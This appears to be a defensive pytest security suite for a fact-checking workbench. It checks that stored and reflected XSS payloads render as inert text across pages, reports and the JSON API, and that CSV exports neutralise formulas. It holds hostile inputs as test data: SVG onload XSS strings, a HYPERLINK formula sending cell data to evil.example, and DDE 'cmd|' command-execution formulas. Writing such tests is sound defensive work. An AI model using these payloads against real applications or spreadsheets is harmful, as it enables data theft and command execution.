"""Stored XSS: payloads in an article's title and sentences, a reviewer's notes, a user
name, a source's title and a fetched page's text are shown as text on every page, in
the panel fragment, in the HTML, PDF and Markdown reports, and as JSON in the API; the
CSV report neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from api_client import api_client
from pypdf import PdfReader
from security import xss_world
from security.inert import dangers, payload, short_payload, shown, text_of
from sqlalchemy import update

from workbench.extensions import db
from workbench.models import Article, Claim, User

pytestmark = pytest.mark.security


@pytest.fixture
def world(app, httpserver, allow, make_user):
    api = api_client(app, make_user, "reviewer", "rita")
    built = xss_world.build(app, httpserver, allow, api)
    return built, api


def _as(app, user_id: int):
    test_client = app.test_client()
    with test_client.session_transaction() as flask_session:
        with app.app_context():
            flask_session["_user_id"] = db.session.get(User, user_id).get_id()
            db.session.remove()
    return test_client


def _check_page(attack, where: str, html: str, fields: tuple[str, ...], fragment=False) -> None:
    """One attack per payload field the page shows: it must be there as text, and
    nothing in the page may run script."""
    found = dangers(html, fragment=fragment)
    text = text_of(html, fragment=fragment)
    for field in fields or ("reflected",):
        with attack("xss", f"{where}: {field}"):
            assert not found, f"would run script: {found[:3]}"
            if field != "reflected":
                assert shown(field) in text, f"the {field} payload is not shown as text"


def test_stored_payloads_are_text_in_every_page_report_and_api(app, attack, world, make_user):
    """One world (an import, a fetch, verdicts) for every way out: it takes seconds."""
    w, api = world
    rita = _as(app, api.user_id)
    admin = _as(app, make_user("admin", "ada").id)
    _pages(app, attack, w, rita, admin)
    _reflected(app, attack, w, rita)
    _api_json(app, attack, w, api)
    _pdf(attack, w, rita)
    _markdown(attack, w, rita)


def _pages(app, attack, w, rita, admin) -> None:
    a, (c1, c2, c3) = w.article_id, w.claim_ids[:3]
    pages = [
        (rita, "/", ("title", "user")),
        (rita, f"/articles/{a}", ("title", "claim", "source-title")),
        (rita, f"/articles/{a}?claim={c1}", ("title", "claim", "note", "page", "user")),
        (rita, f"/articles/{a}?claim={c3}", ("title", "claim", "not-a-claim", "user")),
        (rita, f"/articles/{a}/activity", ("title", "note", "not-a-claim", "user")),
        (rita, f"/snapshots/{w.snapshot_id}?claim={c1}&match={w.match_id}", ("page",)),
        (rita, f"/snapshots/{w.snapshot_id}?claim={c1}&pinned=1", ("page", "claim")),
        (rita, f"/sources/{w.source_id}", ("source-title", "title")),
        (rita, "/tokens", ("token",)),
        (admin, "/admin/users", ("user",)),
        (admin, f"/admin/users/{w.user_id}", ("user",)),
        (rita, f"/articles/{a}/report.html", ("title", "claim", "note", "page", "user")),
    ]
    for who, url, fields in pages:
        response = who.get(url)
        assert response.status_code == 200, (url, response.status_code)
        _check_page(attack, url, response.get_data(as_text=True), fields)
    panel = rita.get(f"/claims/{c1}/panel", headers={"Accept": "application/json"}).get_json()
    _check_page(attack, "panel", panel["panel"], ("claim", "note", "page", "user"), True)
    _check_page(attack, "panel of c2", _panel(rita, c2), ("claim", "note", "user"), True)


def _panel(test_client, claim_id: int) -> str:
    return test_client.get(
        f"/claims/{claim_id}/panel", headers={"Accept": "application/json"}
    ).get_json()["panel"]


REFLECTED = payload("reflected")
# An address the guard refuses without a lookup (tests may not resolve names).
NOWHERE = "http://127.0.0.1:9"
FORM = {"fmt": "auto", "language": "auto"}
FIELDS = ("title", "claim", "note", "page", "user")


def _reflected(app, attack, w, rita) -> None:
    """A payload in an address or a form is not given back as markup."""
    anonymous = app.test_client()
    app.config["WTF_CSRF_ENABLED"] = False
    a = w.article_id
    answers = [
        ("dashboard search", rita.get("/", query_string={"q": REFLECTED})),
        (
            "dashboard filters",
            rita.get(
                "/", query_string={"reviewer": REFLECTED, "state": REFLECTED, "language": REFLECTED}
            ),
        ),
        ("review page claim", rita.get(f"/articles/{a}", query_string={"claim": REFLECTED})),
        ("source page next", rita.get(f"/sources/{w.source_id}", query_string={"next": REFLECTED})),
        (
            "source next path",
            rita.get(
                f"/sources/{w.source_id}",
                query_string={"next": '/x"><svg onload=xss("reflected")>'},
            ),
        ),
        ("login next", anonymous.get("/login", query_string={"next": REFLECTED})),
        (
            "login next path",
            anonymous.get("/login", query_string={"next": '/"><svg onload=xss(1)>'}),
        ),
        ("login name", anonymous.post("/login", data={"username": REFLECTED, "password": "x"})),
        ("import address", rita.post("/import", data={"url": f"{NOWHERE}/{REFLECTED}", **FORM})),
        ("import text", rita.post("/import", data={"text": REFLECTED, "url": NOWHERE, **FORM})),
        ("404 page", rita.get(f"/articles/{a}/{REFLECTED}")),
        ("token name", rita.post("/tokens", data={"name": "x" * 90 + REFLECTED})),
        (
            "verdict draft",
            rita.post(
                f"/claims/{w.claim_ids[3]}/verdict",
                data={"status": "verified", "version": "0", "note": REFLECTED},
            ),
        ),
        (
            "pin address",
            rita.post(
                f"/articles/{a}/sources",
                data={"url": f"{NOWHERE}/{REFLECTED}"},
                follow_redirects=True,
            ),
        ),
    ]
    for where, response in answers:
        assert response.status_code < 500, where
        _check_page(attack, where, response.get_data(as_text=True), ())


def test_names_that_would_be_markup_are_refused_at_the_door(app, attack, runner, make_user):
    admin = _as(app, make_user("admin", "ada").id)
    app.config["WTF_CSRF_ENABLED"] = False
    name = short_payload("user")
    with attack("xss", "user name through the admin form"):
        data = {"username": name, "role": "reviewer", "generate": "y"}
        response = admin.post("/admin/users", data=data)
        assert response.status_code == 400, response.status_code
        assert "letters, digits, dots, dashes or underscores" in response.get_data(as_text=True)
    with attack("xss", "user name through the CLI"):
        result = runner.invoke(
            args=["user", "create", name, "--role", "reviewer"],
            input="a long passphrase\na long passphrase\n",
        )
        assert result.exit_code == 1 and "letters, digits" in result.output, result.output
    with app.app_context():
        assert db.session.query(User).filter(User.username == name).count() == 0


def _strings(value) -> list[str]:
    """Every string in a JSON document."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in _strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in _strings(item)]
    return []


def _served_as_json(response) -> None:
    assert response.mimetype in ("application/json", "application/ld+json"), response.mimetype
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def _api_json(app, attack, w, api) -> None:
    """Stored as text (a note as typed; a title without its markup, as the import makes
    every title), served as JSON (nosniff) exactly as stored, never escaped for HTML."""
    with app.app_context():
        stored_title = db.session.get(Article, w.article_id).title
        stored_note = db.session.get(Claim, w.claim_ids[0]).note
        db.session.remove()
    with attack("xss", "stored as text, not as escaped markup"):
        assert stored_note == w.note
        assert shown("title") in stored_title and "&lt;" not in stored_title
    typed = {"title": stored_title, "user": short_payload("user")}
    reads = {
        "API article": (f"/articles/{w.article_id}", ("title", "claim", "note", "page")),
        "API article list": ("/articles", ("title",)),
        "API JSON report": (f"/articles/{w.article_id}/report?format=json", FIELDS),
        "API ClaimReview": (f"/articles/{w.article_id}/report?format=claimreview", ("claim",)),
        "API annotations": (f"/articles/{w.article_id}/report?format=annotations", ("page",)),
    }
    for where, (url, fields) in reads.items():
        response = api.get(url)
        strings = _strings(json.loads(response.data)) if response.status_code == 200 else []
        for field in fields:
            with attack("xss", f"{where}: {field}"):
                _served_as_json(response)
                assert any(typed.get(field, payload(field)) in s for s in strings), "not as stored"
                assert not any("&lt;" in s for s in strings), "escaped for HTML inside JSON"


def _pdf(attack, w, rita) -> None:
    """The PDF shows the payloads as text and has no script action or javascript: link."""
    response = rita.get(f"/articles/{w.article_id}/report.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    text = " ".join(" ".join((p.extract_text() or "").split()) for p in reader.pages)
    for field in ("title", "claim", "note", "page", "user"):
        with attack("xss", f"PDF report: {field}"):
            assert re.search(r"xss\(\W*" + re.escape(field), text), f"{field} not shown as text"
    with attack("xss", "PDF report: no script"):
        assert "/JavaScript" not in reader.trailer["/Root"].get("/Names", {})
        assert "/OpenAction" not in reader.trailer["/Root"] and "/AA" not in reader.trailer["/Root"]
        uris = [
            str(annotation.get_object().get("/A", {}).get("/URI", ""))
            for page in reader.pages
            for annotation in page.get("/Annots", []) or []
        ]
        actions = [
            str(annotation.get_object().get("/A", {}).get("/S", ""))
            for page in reader.pages
            for annotation in page.get("/Annots", []) or []
        ]
        assert not [u for u in uris if u.strip().lower().startswith("javascript:")], uris
        assert "/JavaScript" not in actions, actions


def _markdown(attack, w, rita) -> None:
    """The Markdown report stays text in a CommonMark renderer that passes raw HTML."""
    from markdown_it import MarkdownIt

    markdown = rita.get(f"/articles/{w.article_id}/report.md").get_data(as_text=True)
    html = MarkdownIt("commonmark", {"html": True}).render(markdown)
    _check_page(
        attack, "Markdown report rendered", html, ("title", "claim", "note", "page", "user"), True
    )
    with attack("xss", "Markdown report: no javascript: link"):
        assert not re.search(r"(?<!\\)\]\(\s*javascript:", markdown, re.I)


# What a spreadsheet would run (OWASP "CSV injection"), as notes and a reviewer's name.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_the_csv_report_neutralises_formulas(app, attack, make_user, make_article, session):
    from workbench.services import review

    sentences = [f"Der Sprecher nannte am Mittwoch {n + 2} weitere Hilfen." for n in range(7)]
    article_id = make_article("Hilfen\n\n" + "\n\n".join(sentences)).article_id
    claims = session.get(Article, article_id).claims
    assert len(claims) == len(FORMULAS)
    user = make_user("reviewer", "csv-rita")
    for claim, formula in zip(claims, FORMULAS, strict=True):
        verdict = review.Verdict(status="verified", note=formula)
        review.decide(session, claim.id, verdict, version=claim.version, user=user)
    # A name no form accepts (written by hand, or from before the rule).
    session.execute(update(User).where(User.id == user.id).values(username="=cmd|' /C calc'!A0"))
    session.commit()
    session.remove()
    rita = _as(app, make_user("reviewer", "rita").id)
    data = rita.get(f"/articles/{article_id}/report.csv").data.decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(data, newline="")))
    notes = [row[header.index("note")] for row in rows]
    for formula in FORMULAS:
        with attack("csv-formula", f"note {formula!r}"):
            # Notes are stored without leading white space; the formula is what stays.
            assert "'" + formula.strip() in notes, "not shown as text with a leading apostrophe"
    with attack("csv-formula", "reviewer name"):
        assert {row[header.index("reviewer")] for row in rows} == {"'=cmd|' /C calc'!A0"}
    with attack("csv-formula", "no cell of the report starts a formula"):
        risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
        assert not risky, risky
